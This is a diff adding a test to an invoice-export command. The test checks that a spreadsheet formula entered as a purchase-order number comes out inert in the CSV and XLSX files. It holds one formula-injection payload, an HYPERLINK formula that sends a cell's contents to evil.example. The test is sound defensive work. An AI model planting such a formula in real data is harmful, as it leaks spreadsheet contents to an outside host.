@@ -445,3 +445,31 @@ def test_the_command_refuses_a_future_year(db, tmp_path):
         call_command("export_invoices", year=2030, out=str(tmp_path))
     assert str(error.value) == "Année invalide : indiquez une année entre 2000 et 2026."
     assert list(tmp_path.iterdir()) == []
+
+
+def test_a_formula_typed_as_purchase_order_is_inert(tenant, other_tenant, staff_finance):
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Voir")'
+    catalogue = build_catalogue()
+    with at(date(2026, 3, 17)):
+        quote = Quote.objects.create(
+            reference="DEV-E-FORMULE", collectivite=tenant, title="t", status="approved"
+        )
+        QuoteAcceptance.objects.create(
+            quote=quote, signed_by=UserFactory(), signed_at=timezone.now(), po_number=formula
+        )
+        line = QuoteLine.objects.create(
+            quote=quote, offer=catalogue.mail, label="Messagerie", quantity=2
+        )
+        contracts.line_activate(line=line, activated_on=date(2026, 3, 17), activated_by=None)
+    with at(date(2026, 4, 1)):
+        services.invoice_issue(
+            collectivite=tenant, as_of=date(2026, 4, 1), issue_date=date(2026, 4, 1)
+        )
+
+    csv_bytes, xlsx_bytes, _ = _export()
+
+    [row] = list(csv.DictReader(io.StringIO(csv_bytes.decode("utf-8-sig")), delimiter=";"))
+    assert row["Engagement ou bon de commande"] == "'" + formula
+    sheet = load_workbook(io.BytesIO(xlsx_bytes)).active
+    [cell] = [c for c in sheet[2] if c.value in (formula, "'" + formula)]
+    assert (cell.data_type, cell.value) == ("s", formula)
